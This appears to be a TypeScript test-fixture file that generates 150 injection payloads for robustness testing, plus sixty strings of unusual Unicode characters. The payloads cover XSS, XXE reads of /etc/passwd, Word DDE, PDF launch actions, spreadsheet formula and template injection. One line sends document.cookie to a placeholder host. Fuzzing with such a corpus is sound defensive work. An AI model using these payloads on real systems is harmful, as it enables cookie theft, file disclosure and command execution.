/** Texts that have broken or tricked programs: markup, scripts, formulas, fields and paths, and what Unicode allows. */
const commands = [
  'alert(1)',
  'confirm`1`',
  'fetch("https://198.51.100.9/"+document.cookie)',
  'app.launchURL("https://198.51.100.9")',
  'new Function("x")()',
] as const
const frames: readonly ((command: string) => string)[] = [
  (command) => `<script>${command}</script>`,
  (command) => `<img src=x onerror="${command}">`,
  (command) => `<svg onload='${command}'/>`,
  (command) => `"><iframe src="javascript:${command}">`,
  (command) => `[click](javascript:${command})`,
  (command) => `![x](https://198.51.100.9/p.png?${command})`,
  (command) => `<a href="data:text/html,${command}">x</a>`,
  (command) => `]]><w:fldSimple w:instr="${command}"/>`,
  (command) => `</w:t></w:r><w:r><w:instrText>DDEAUTO cmd "/c ${command}"</w:instrText></w:r>`,
  (command) => `&lt;b&gt;${command}&amp;#x3c;`,
  (command) => `<!ENTITY x SYSTEM "file:///etc/passwd">${command}&x;`,
  (command) => `/S /JavaScript /JS (${command}) >> endobj`,
  (command) => `) Tj ET Q BT (${command}`,
  (command) => `<</S/Launch/F(cmd.exe)>> ${command}`,
  (command) => `stream endstream xref trailer %%EOF ${command}`,
  (command) => `=HYPERLINK("https://198.51.100.9/?${command}")`,
  (command) => `@SUM(1+1)*cmd|'/C ${command}'!A0`,
  (command) => `{{constructor.constructor('${command}')()}}`,
  (command) => `\${${command}}<%= ${command} %>`,
  (command) => `javascript:${command}//`,
  (command) => `<style>@import url(https://198.51.100.9/${command});</style>`,
  (command) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${command}&gt;">`,
  (command) => `<object data="x" ${command}></object><embed src=x>`,
  (command) => `<w:altChunk r:id="rId1"/>${command}`,
  (command) => `\\\\198.51.100.9\\share\\${command}`,
  (command) => `file:///etc/passwd ${command}`,
  (command) => `<base href=//198.51.100.9><form action=${command}>`,
  (command) => `\`${command}\` **bold** _it_ # head`,
  (command) => `__proto__ ${command} constructor`,
  (command) => `%s%n%x ${command} ../../../../etc/passwd`,
]
/** 150 texts. */
export const payloads: readonly string[] = frames.flatMap((frame) => commands.map(frame))

/** Code points, in hexadecimal: controls, direction marks, surrogates, noncharacters, combining marks, emoji, scripts without a font. */
const oddCodes =
  '00 01 07 08 0b 0c 1b 1f 7f 80 85 9f ad feff fff9 fffb fffd fffe ffff fdd0 061c 200b 200c 200d 200e 200f 2028 2029 202a 202b 202c 202d 202e 2060 2066 2067 2068 2069 d800 dbff dc00 dfff 0301 0483 20dd 1f600 1f468 e0001 e007f 10ffff 1fffe 4e2d 0e01 0915 ac00'

/** Sixty texts of odd characters, each with a plain word by which it is found again. */
export const oddTexts: readonly string[] = oddCodes
  .split(' ')
  .map((code, index) => `odd${index}${String.fromCodePoint(Number.parseInt(code, 16))}end${index}`)
  .concat([
    'e\u0301\u0301\u0301\u0301'.repeat(30),
    'W'.repeat(3000),
    '\u05e9\u05dc\u05d5\u05dd (a) 1',
    '\r\n\r\nlines\u0085more',
    'tab\tand\u00a0space',
  ])
